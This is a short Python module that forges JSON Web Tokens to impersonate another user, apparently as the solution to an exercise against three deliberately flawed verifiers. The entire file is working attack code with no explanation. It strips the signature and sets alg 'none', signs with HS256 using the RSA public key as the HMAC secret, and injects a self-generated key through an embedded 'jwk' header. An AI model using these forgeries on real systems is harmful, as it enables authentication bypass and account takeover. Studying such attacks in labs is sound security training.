"""Forges tokens, from a genuine one of your own."""

import base64
import json

import jwt
from cryptography.hazmat.primitives.asymmetric import rsa


def encoded(part):
    """A part of a token: JSON, or the bytes of a signature."""
    raw = part if isinstance(part, bytes) else json.dumps(part).encode()
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def claims_of(token, user):
    """The claims of a token, for another user."""
    return jwt.decode(token, options={"verify_signature": False}) | {"sub": user}


def for_one(token, user, public_key):
    """A token of this user that `verifiers.one` believes."""
    return f"{encoded({'alg': 'none'})}.{encoded(claims_of(token, user))}."


def for_two(token, user, public_key):
    """A token of this user that `verifiers.two` believes."""
    return jwt.encode(claims_of(token, user), public_key, "HS256")


def for_three(token, user, public_key):
    """A token of this user that `verifiers.three` believes."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    jwk = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(key.public_key()))
    return jwt.encode(claims_of(token, user), key, "RS256", headers={"jwk": jwk})
